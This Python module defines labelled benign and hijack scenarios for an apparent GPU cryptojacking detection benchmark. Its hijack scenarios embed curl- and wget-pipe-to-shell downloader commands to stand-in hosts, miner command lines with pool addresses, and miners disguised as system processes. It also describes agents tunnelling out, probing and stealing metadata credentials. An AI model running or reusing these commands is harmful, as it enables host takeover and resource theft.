"""The labelled scenarios: what runs on a simulated host, benign or hijacked.

Each scenario is a function that fills a :class:`HostSim` and returns when the hijack starts
(seconds from the host's start; ``None`` for benign hosts).  Hijacked hosts do ordinary work or
sit idle before the attack, so detectors have a normal to learn and the benchmark can measure
time to detect from the attack's first event.  The label lives in the scenario table and the
labels file the CLI writes, never in an event.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from gpusentry.simulate import payloads as p
from gpusentry.simulate.host import HostSim
from gpusentry.simulate.workloads import (
    DcgmDiag,
    GpuBurn,
    GpuProgram,
    Inference,
    Miner,
    Notebook,
    NvBandwidth,
    Training,
    Transcode,
)

BENIGN, HIJACK = "benign", "hijack"
PYTHON = "/opt/conda/bin/python3.10"
GITHUB = ("github.com", ["140.82.112.3"])
PYPI = ("files.pythonhosted.org", ["151.101.0.223", "151.101.64.223"])
HF = ("huggingface.co", ["18.164.174.23"])
S3 = ("s3.us-east-1.amazonaws.com", ["52.217.161.80"])
WANDB = ("api.wandb.ai", ["35.186.228.49"])


@dataclass(frozen=True)
class Scenario:
    name: str
    label: str  # benign | hijack
    description: str
    build: Callable[[HostSim], float | None]
    # What a detector can see (hijacks): gpu, process, network; gpu-sharing: a GPU miner beside a busy job, whose
    # GPU signature (the job's dips gone) takes a dip period or two to show.
    evidence: str = ""
    group: str = "fleet"  # fleet (classic hijacks and their look-alikes) | agentic (agent sandboxes on RL clusters)
    # | allocation (GPU work judged against the scheduler's allocations)
    min_gpus: int = 1  # hosts get at least this many GPUs


def _wallet(rng: random.Random, prefix: str = "4", length: int = 95) -> str:
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    return prefix + "".join(rng.choice(alphabet) for _ in range(length - len(prefix)))


def _attack_at(sim: HostSim) -> float:
    """When the hijack starts: after a quarter of the run (at least 5 minutes of normal first)."""
    t = max(300.0, round(sim.duration_s * 0.25 / 10) * 10)
    return min(t, sim.duration_s * 0.6)


def _https(sim: HostSim, t: float, site: tuple[str, list[str]], program: GpuProgram | None = None) -> None:
    name, ips = site
    sim.resolve(t, name, ips, program)
    sim.connect(t + 0.05, ips[0], 443, program=program, payload=p.tls_client_hello(name, sim.rng), sni=name,
                domain=name)


# ---------------------------------------------------------------------------- benign pieces


def _training(sim: HostSim, start: float, end: float, gpus: range | list[int] | None = None,
              user: str = "ml") -> list[GpuProgram]:
    gpus = sim.gpus if gpus is None else gpus
    launcher = sim.spawn(start, f"/usr/local/bin/torchrun --nproc_per_node={len(gpus)} train.py --config "
                         "configs/llama-7b.yaml", parent=None, user=user, cwd=f"/home/{user}/llm",
                         executable="/usr/local/bin/torchrun", name="torchrun")
    period = sim.rng.uniform(420, 900)
    dip = sim.rng.uniform(30, 75)
    phase = sim.rng.uniform(0, period)
    ranks = []
    for rank in gpus:
        prog = sim.spawn(start + 2, f"{PYTHON} -u train.py --config configs/llama-7b.yaml --local-rank={rank}",
                         parent=launcher.pid, user=user, cwd=f"/home/{user}/llm")
        ranks.append(prog)
        sim.run(start + 5, end, [rank], partial(Training, sim.spec, program=prog, dip_period_s=period,
                                                dip_len_s=dip, phase_s=phase))
    _https(sim, start + 3, HF, ranks[0] if ranks else None)
    _https(sim, start + 4, S3, ranks[0] if ranks else None)
    _https(sim, start + 6, WANDB, ranks[0] if ranks else None)
    for _peer in range(2):  # NCCL rendezvous with the other nodes of the job
        sim.connect(start + 4, f"10.{sim.rng.randrange(64)}.{sim.rng.randrange(256)}.{sim.rng.randrange(2, 250)}",
                    29500, program=launcher)
    return ranks


def _idle(sim: HostSim) -> None:
    return None


def training(sim: HostSim) -> float | None:
    _training(sim, 0, sim.duration_s)
    return None


def inference(sim: HostSim) -> float | None:
    server = sim.spawn(0, "/opt/tritonserver/bin/tritonserver --model-repository=/models --http-port=8080",
                       user="triton", cwd="/opt/tritonserver")
    sim.run(10, sim.duration_s, sim.gpus, lambda r: Inference(sim.spec, r, server, footprint=r.uniform(0.5, 0.92)))
    _https(sim, 5, S3, server)
    return None


def notebook(sim: HostSim) -> float | None:
    lab = sim.spawn(0, f"{PYTHON} -m jupyterlab --ip=0.0.0.0 --port=8888", user="alice", name="jupyter-lab")
    for i in list(sim.gpus)[:2]:
        kernel = sim.spawn(30 + i * 60, f"{PYTHON} -m ipykernel_launcher -f /home/alice/.local/share/jupyter/"
                           f"runtime/kernel-{i}.json", parent=lab.pid, user="alice")
        sim.run(60 + i * 60, sim.duration_s, [i], partial(Notebook, sim.spec, program=kernel))
        _https(sim, 40 + i * 60, PYPI, kernel)
    _https(sim, 20, GITHUB, lab)
    # The notebook's language server speaks JSON-RPC on 3333, like Stratum pools often do.
    lsp = sim.spawn(15, "/usr/bin/node /opt/lsp/pyright-langserver.js --socket=3333", parent=lab.pid, user="alice")
    sim.connect(16, "127.0.0.1", 3333, program=lab, payload=p.lsp_initialize(lab.pid, "/home/alice/work"))
    sim.connect(17, "10.8.0.12", 3333, program=lsp, payload=p.lsp_initialize(lsp.pid, "/home/alice/shared"))
    return None


def burn_in(sim: HostSim) -> float | None:
    burn_end = max(720.0, sim.duration_s * 0.45)  # gpu-burn for at least 12 minutes: past the 10-minute alert
    diag_end = burn_end + (sim.duration_s - burn_end) * 0.6
    burn = sim.spawn(5, f"/usr/local/bin/gpu_burn -tc {int(burn_end - 10)}", user="root", cwd="/root")
    sim.run(10, burn_end, sim.gpus, lambda r: GpuBurn(sim.spec, r, burn))
    sim.exit(burn_end, burn)
    diag = sim.spawn(burn_end + 10, "/usr/bin/dcgmi diag -r 3", user="root", cwd="/root")
    sim.run(burn_end + 15, diag_end, sim.gpus, lambda r: DcgmDiag(sim.spec, r, diag))
    sim.exit(diag_end, diag)
    bw = sim.spawn(diag_end + 10, "/usr/local/bin/nvbandwidth -t all", user="root", cwd="/root")
    sim.run(diag_end + 15, sim.duration_s - 30, sim.gpus, lambda r: NvBandwidth(sim.spec, r, bw))
    return None


def transcoding(sim: HostSim) -> float | None:
    for i in sim.gpus:
        cam = f"10.20.{i}.{sim.rng.randrange(2, 250)}"
        ff = sim.spawn(5 + i, f"/usr/bin/ffmpeg -hwaccel cuda -hwaccel_output_format cuda -i rtsp://{cam}:554/stream1 "
                       f"-vf scale_cuda=1280:720 -c:v h264_nvenc -preset p4 -f hls /srv/hls/cam{i}.m3u8",
                       user="media", cwd="/srv")
        sim.connect(6 + i, cam, 554, program=ff, payload=p.rtsp_describe(f"rtsp://{cam}:554/stream1"))
        sim.run(8 + i, sim.duration_s, [i], partial(Transcode, sim.spec, program=ff))
    return None


def idle_then_job(sim: HostSim) -> float | None:
    _training(sim, sim.duration_s / 2, sim.duration_s)
    return None


def miner_ports(sim: HostSim) -> float | None:
    """Services on ports miners also use: an HTTP model API on 8080, a JSON-RPC language server on 3333."""
    api = sim.spawn(0, f"{PYTHON} -m vllm.entrypoints.openai.api_server --port 8080 --model /models/llama",
                    user="svc")
    sim.run(20, sim.duration_s, sim.gpus, lambda r: Inference(sim.spec, r, api, footprint=0.9))
    client = sim.spawn(60, f"{PYTHON} eval_client.py --endpoint http://10.3.0.9:8080", user="ml")
    for k in range(int(sim.duration_s // 120)):
        sim.connect(60 + k * 120, "10.3.0.9", 8080, program=client,
                    payload=p.http_json_post("10.3.0.9:8080", "/v1/completions",
                                             {"model": "llama", "prompt": "hello", "max_tokens": 64, "id": k}))
    lsp = sim.spawn(30, "/usr/bin/node /opt/lsp/server.js --socket=3333", user="ml")
    sim.connect(31, "10.3.0.15", 3333, program=lsp, payload=p.lsp_initialize(lsp.pid, "/home/ml/repo"))
    sim.connect(33, "10.3.0.15", 4444, program=lsp,
                payload=p.http_json_post("10.3.0.15:4444", "/rpc", {"jsonrpc": "2.0", "id": 1, "method": "status"}))
    return None


# ---------------------------------------------------------------------------- hijack pieces


def _miner_run(sim: HostSim, start: float, prog: GpuProgram, gpus: range | list[int] | None = None,
               **kw: object) -> None:
    sim.run(start + 3, sim.duration_s, sim.gpus if gpus is None else gpus,
            lambda r: Miner(sim.spec, r, prog, **kw))  # type: ignore[arg-type]


def _background(sim: HostSim, until: float) -> None:
    """Ordinary work before the attack: half the hosts train, the others sit idle."""
    if sim.rng.random() < 0.5:
        ranks = _training(sim, 0, until)
        for prog in ranks:
            sim.exit(until, prog)


def blatant(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    _background(sim, t)
    wallet = _wallet(sim.rng, "R", 34)
    prog = sim.spawn(t, f"/home/ml/t-rex-0.26.8/t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u {wallet}.rig1 "
                     "-p x", cwd="/home/ml/t-rex-0.26.8")
    sim.resolve(t + 0.2, "rvn.2miners.com", ["198.51.100.21"], prog)
    sim.connect(t + 0.3, "198.51.100.21", 6060, program=prog, domain="rvn.2miners.com",
                payload=p.stratum_v1("T-Rex/0.26.8", f"{wallet}.rig1"))
    _miner_run(sim, t, prog, algorithm="kawpow", tuned=False)
    return t


def renamed_config(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    _background(sim, t)
    wallet = _wallet(sim.rng)
    prog = sim.spawn(t, "/var/tmp/.cache/systemd-udevd --config=/var/tmp/.cache/config.json", cwd="/var/tmp/.cache",
                     name="systemd-udevd")
    sim.resolve(t + 0.2, "gulf.moneroocean.stream", ["198.51.100.40"], prog)
    sim.connect(t + 0.3, "198.51.100.40", 10128, program=prog, domain="gulf.moneroocean.stream",
                payload=p.xmrig_login(wallet, algos=("kawpow", "rx/0")))
    _miner_run(sim, t, prog, algorithm="kawpow", tuned=True)
    return t


def tls_pool_443(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    _background(sim, t)
    prog = sim.spawn(t, "/home/ml/.local/bin/dbus-launch --session -d 1", cwd="/home/ml", name="dbus-launch")
    sim.resolve(t + 0.2, "etc.2miners.com", ["198.51.100.22"], prog)
    sim.connect(t + 0.3, "198.51.100.22", 443, program=prog, sni="etc.2miners.com", domain="etc.2miners.com",
                payload=p.tls_client_hello("etc.2miners.com", sim.rng))
    _miner_run(sim, t, prog, algorithm="etchash", tuned=True)
    return t


def stratum_proxy(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    _background(sim, t)
    wallet = _wallet(sim.rng, "0x", 42)
    prog = sim.spawn(t, "/opt/monitoring/bin/node-exporter-gpu --collector.all", cwd="/opt/monitoring",
                     name="node-exporter-g")
    sim.connect(t + 0.3, "10.0.3.7", 3333, program=prog, payload=p.ethereum_stratum("lolMiner 1.88", wallet + ".w1"))
    _miner_run(sim, t, prog, algorithm="etchash", tuned=True)
    return t


def ssh_login(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    _background(sim, t)
    sshd = sim.spawn(t - 30, "/usr/sbin/sshd -D -R", user="root", cwd="/")
    shell = sim.spawn(t - 25, "-bash", parent=sshd.pid, executable="/usr/bin/bash", name="bash", user="ml")
    dl = sim.spawn(t - 10, "/bin/sh -c curl -fsSL http://203.0.113.77/i.sh | sh", parent=shell.pid,
                   executable="/bin/sh", name="sh")
    curl = sim.spawn(t - 9.8, "curl -fsSL http://203.0.113.77/i.sh", parent=dl.pid, executable="/usr/bin/curl")
    sim.connect(t - 9.7, "203.0.113.77", 80, program=curl, payload=p.http_get("203.0.113.77", "/i.sh"))
    prog = sim.spawn(t, "/dev/shm/.x/kdevtmpfsi", parent=dl.pid, cwd="/dev/shm/.x")
    sim.resolve(t + 0.2, "rvn.herominers.com", ["198.51.100.60"], prog)
    wallet = _wallet(sim.rng, "R", 34)
    sim.connect(t + 0.3, "198.51.100.60", 1140, program=prog, domain="rvn.herominers.com",
                payload=p.stratum_v1("kawpowminer/1.2.4", wallet))
    _miner_run(sim, t, prog, algorithm="kawpow", tuned=False)
    return t - 30


def ray_abuse(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    raylet = sim.spawn(0, f"{PYTHON} -m ray.util.client.server --host 0.0.0.0 --port 10001", user="ray",
                       name="raylet")
    sup = sim.spawn(t - 5, f"{PYTHON} -m ray.dashboard.modules.job.job_supervisor", parent=raylet.pid,
                    user="ray", name="ray::JobSupervisor")
    sh = sim.spawn(t - 3, "/bin/sh -c wget -q http://203.0.113.90/r -O /tmp/r && chmod +x /tmp/r && /tmp/r -a etchash "
                   "--server etc.2miners.com:1010 --user 0x2c1f..w", parent=sup.pid, user="ray",
                   executable="/bin/sh", name="sh")
    wget = sim.spawn(t - 2.8, "wget -q http://203.0.113.90/r -O /tmp/r", parent=sh.pid, user="ray",
                     executable="/usr/bin/wget")
    sim.connect(t - 2.7, "203.0.113.90", 80, program=wget, payload=p.http_get("203.0.113.90", "/r", "Wget/1.21.2"))
    prog = sim.spawn(t, "/tmp/r -a etchash --server etc.2miners.com:1010 --user 0x2c1f..w", parent=sh.pid, user="ray")
    sim.resolve(t + 0.2, "etc.2miners.com", ["198.51.100.22"], prog)
    sim.connect(t + 0.3, "198.51.100.22", 1010, program=prog, domain="etc.2miners.com",
                payload=p.ethereum_stratum("GMiner/3.44", "0x2c1f..w"))
    _miner_run(sim, t, prog, algorithm="etchash", tuned=True)
    return t - 5


def jupyter_abuse(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    lab = sim.spawn(0, f"{PYTHON} -m jupyterlab --ip=0.0.0.0 --port=8888 --NotebookApp.token=", user="jovyan",
                    name="jupyter-lab")
    sh = sim.spawn(t - 4, "/bin/bash -c curl -s http://198.51.100.7/m.sh | bash", parent=lab.pid, user="jovyan",
                   executable="/bin/bash", name="bash")
    curl = sim.spawn(t - 3.9, "curl -s http://198.51.100.7/m.sh", parent=sh.pid, user="jovyan",
                     executable="/usr/bin/curl")
    sim.connect(t - 3.8, "198.51.100.7", 80, program=curl, payload=p.http_get("198.51.100.7", "/m.sh"))
    prog = sim.spawn(t, "/home/jovyan/.jupyter/.k/jupyter-kernel-gw -c k.json", parent=sh.pid, user="jovyan",
                     name="jupyter-kernel-")
    sim.resolve(t + 0.2, "pool.hashvault.pro", ["198.51.100.80"], prog)
    sim.connect(t + 0.3, "198.51.100.80", 443, program=prog, sni="pool.hashvault.pro", domain="pool.hashvault.pro",
                payload=p.tls_client_hello("pool.hashvault.pro", sim.rng))
    _miner_run(sim, t, prog, algorithm="autolykos2", tuned=True)
    return t - 4


def duty_cycled(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    _background(sim, t)
    prog = sim.spawn(t, "/home/ml/.local/share/nvidia/nvcache-daemon", cwd="/home/ml", name="nvcache-daemon")
    sim.resolve(t + 0.2, "kp.unmineable.com", ["198.51.100.90"], prog)
    sim.connect(t + 0.3, "198.51.100.90", 443, program=prog, sni="kp.unmineable.com", domain="kp.unmineable.com",
                payload=p.tls_client_hello("kp.unmineable.com", sim.rng))
    on = sim.rng.uniform(45, 120)
    _miner_run(sim, t, prog, algorithm="etchash", tuned=True, intensity=sim.rng.uniform(0.6, 0.85), on_s=on,
               off_s=on * sim.rng.uniform(0.8, 1.5))
    return t


def shares_training(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    _training(sim, 0, sim.duration_s)
    prog = sim.spawn(t, "/home/ml/.cache/torch/kernels/pt_kernel_cache --device 0", cwd="/home/ml/.cache/torch",
                     name="pt_kernel_cache")
    sim.resolve(t + 0.2, "rvn.2miners.com", ["198.51.100.21"], prog)
    sim.connect(t + 0.3, "198.51.100.21", 443, program=prog, sni="rvn.2miners.com", domain="rvn.2miners.com",
                payload=p.tls_client_hello("rvn.2miners.com", sim.rng))
    _miner_run(sim, t, prog, gpus=[0], algorithm="kawpow", tuned=False, share=0.35)
    return t


def cpu_only(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    _training(sim, 0, sim.duration_s)
    wallet = _wallet(sim.rng)
    prog = sim.spawn(t, f"/var/tmp/.systemd/systemd-resolve -o pool.supportxmr.com:443 -u {wallet} -k --tls "
                     "--donate-level 1 --cpu-max-threads-hint 75", cwd="/var/tmp/.systemd", name="systemd-resolve")
    sim.resolve(t + 0.2, "pool.supportxmr.com", ["198.51.100.100"], prog)
    sim.connect(t + 0.3, "198.51.100.100", 443, program=prog, sni="pool.supportxmr.com",
                domain="pool.supportxmr.com", payload=p.tls_client_hello("pool.supportxmr.com", sim.rng))
    return t


def container(sim: HostSim) -> float | None:
    t = _attack_at(sim)
    _background(sim, t)
    cid = f"{sim.rng.getrandbits(256):064x}"
    shim = sim.spawn(t - 2, f"/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {cid}", user="root", cwd="/")
    wallet = _wallet(sim.rng, "0x", 42)
    prog = sim.spawn(t, f"/usr/local/bin/server --algo etchash --pool 198.51.100.120:8888 --wallet {wallet} "
                     "--worker pod", parent=shim.pid, user="root", container=cid, cwd="/app")
    # eth-proxy: the miner logs in with eth_submitLogin, as NBMiner and PhoenixMiner do in proxy mode.
    sim.connect(t + 0.3, "198.51.100.120", 8888, program=prog, payload=p.eth_proxy_login(wallet))
    _miner_run(sim, t, prog, algorithm="etchash", tuned=True)
    return t


SCENARIOS: dict[str, Scenario] = {s.name: s for s in (
    Scenario("training", BENIGN, "distributed training (torchrun, NCCL) with checkpoint dips", training),
    Scenario("inference", BENIGN, "bursty model serving (Triton) that fills the board with its cache", inference),
    Scenario("notebook", BENIGN, "Jupyter notebooks with occasional cells, a language server on 3333", notebook),
    Scenario("burn-in", BENIGN, "burn-in tests at 100 %: gpu-burn, dcgmi diag -r 3, nvbandwidth", burn_in),
    Scenario("transcoding", BENIGN, "ffmpeg NVDEC/NVENC transcoding of camera streams", transcoding),
    Scenario("idle-then-job", BENIGN, "an idle GPU host that starts a legitimate training job", idle_then_job),
    Scenario("miner-ports", BENIGN, "an HTTP model API on 8080 and JSON-RPC services on 3333 and 4444",
             miner_ports),
    Scenario("idle", BENIGN, "GPUs that stay idle", _idle),
    Scenario("miner-blatant", HIJACK, "T-Rex by name with stratum+tcp on the command line", blatant,
             "gpu, process, network"),
    Scenario("miner-renamed", HIJACK, "an XMRig-family miner renamed systemd-udevd with a config file",
             renamed_config, "gpu, process, network"),
    Scenario("tls-pool-443", HIJACK, "a masquerading miner talking TLS to a pool on 443 (pool SNI)", tls_pool_443,
             "gpu, network"),
    Scenario("stratum-proxy", HIJACK, "a miner behind an in-cluster stratum proxy (private IP, port 3333)",
             stratum_proxy, "gpu, network"),
    Scenario("ssh-login", HIJACK, "stolen SSH login: sshd, bash, curl | sh, a miner in /dev/shm", ssh_login,
             "gpu, process, network"),
    Scenario("ray-abuse", HIJACK, "Ray job submission abused to download and start a miner", ray_abuse,
             "gpu, process, network"),
    Scenario("jupyter-abuse", HIJACK, "an open Jupyter server made to download and start a miner", jupyter_abuse,
             "gpu, process, network"),
    Scenario("duty-cycled", HIJACK, "a throttled, power-capped miner mining in on/off bursts", duty_cycled,
             "gpu, network"),
    Scenario("shares-training", HIJACK, "a miner squeezed onto a GPU a training job uses", shares_training,
             "gpu, network"),
    Scenario("cpu-only", HIJACK, "CPU-only XMRig (RandomX) on a training host: no GPU signature", cpu_only,
             "process, network"),
    Scenario("container", HIJACK, "a renamed miner in a container started by containerd", container,
             "gpu, process, network"),
)}

from gpusentry.simulate import agentic as _a  # noqa: E402  (it builds on the pieces above)

AGENTIC = "agentic"
SCENARIOS.update({s.name: s for s in (
    Scenario("agent-ordinary", BENIGN, "agent sandboxes at ordinary work (pip, git, pytest, curl, grep -r xmrig, "
             "ssh -V) beside the trainer; a notebook pulls a model", _a.agent_ordinary, group=AGENTIC),
    Scenario("sandbox-cuda-tests", BENIGN, "a sandbox runs a CUDA test suite on a spare GPU", _a.sandbox_cuda_tests,
             group=AGENTIC),
    Scenario("ops-tunnels", BENIGN, "bastion port forwards, autossh local forwards and ProxyJump by ops users",
             _a.ops_tunnels, group=AGENTIC),
    Scenario("prometheus-scrape", BENIGN, "Prometheus scraping fifty exporters every 30 s", _a.prometheus_scrape,
             group=AGENTIC),
    Scenario("inventory-nmap", BENIGN, "an inventory nmap -sn from cron by a service account", _a.inventory_nmap,
             group=AGENTIC),
    Scenario("agent-tunnel", HIJACK, "an agent's tool call opens a reverse SSH tunnel to an outside address",
             _a.agent_tunnel, "process, network", AGENTIC),
    Scenario("agent-probe", HIJACK, "an agent sweeps internal hosts and control-plane ports and reads metadata "
             "credentials", _a.agent_probe, "network", AGENTIC),
    Scenario("agent-gpu-miner", HIJACK, "an agent's detached Python program shares the trainer's GPU with mining, "
             "on and off", _a.agent_gpu_miner, "gpu-sharing, process", AGENTIC),
    Scenario("agent-combined", HIJACK, "tunnel out, probe in, mine on the trainer's GPU, from one sandbox",
             _a.agent_combined, "gpu-sharing, process, network", AGENTIC),
    Scenario("agent-intermittent", HIJACK, "short reverse tunnels that recur across episodes", _a.agent_intermittent,
             "process, network", AGENTIC),
)})

from gpusentry.simulate import allocation as _al  # noqa: E402

ALLOCATION = "allocation"
SCENARIOS.update({s.name: s for s in (
    Scenario("pod-no-gpu-request", HIJACK, "a pod that requested no GPU mines on one, as an allowed interpreter",
             _al.pod_without_gpu_request, "allocation", ALLOCATION, min_gpus=2),
    Scenario("pod-on-others-gpu", HIJACK, "a pod computes on a GPU allocated to another pod",
             _al.pod_on_another_pods_gpu, "allocation", ALLOCATION, min_gpus=2),
    Scenario("slurm-job-escape", HIJACK, "a Slurm job's second program runs on a GPU outside its allocation",
             _al.slurm_job_escape, "allocation", ALLOCATION, min_gpus=2),
    Scenario("host-process-free-gpu", HIJACK, "a process outside every pod computes on a GPU nobody holds",
             _al.host_process_on_free_gpu, "allocation", ALLOCATION, min_gpus=2),
    Scenario("pods-own-gpus", BENIGN, "pods on their own GPUs, from a venv no allowlist names, some started late",
             _al.pods_on_their_gpus, group=ALLOCATION),
    Scenario("time-sliced", BENIGN, "two pods share a GPU through time-slicing", _al.time_sliced, group=ALLOCATION),
    Scenario("mig-instances", BENIGN, "MIG instances, each held by its own pod", _al.mig_instances, group=ALLOCATION),
    Scenario("pod-starting-up", BENIGN, "a pod's process on its GPU seconds before its allocation is read",
             _al.pod_starting_up, group=ALLOCATION, min_gpus=2),
    Scenario("slurm-own-gpus", BENIGN, "Slurm jobs on their own GPUs, one started half-way from a conda env",
             _al.slurm_jobs_on_their_gpus, group=ALLOCATION),
    Scenario("late-conda-job", BENIGN, "no scheduler: a job started late from a conda env no allowlist names",
             _al.late_conda_job_no_scheduler, group=ALLOCATION),
)})
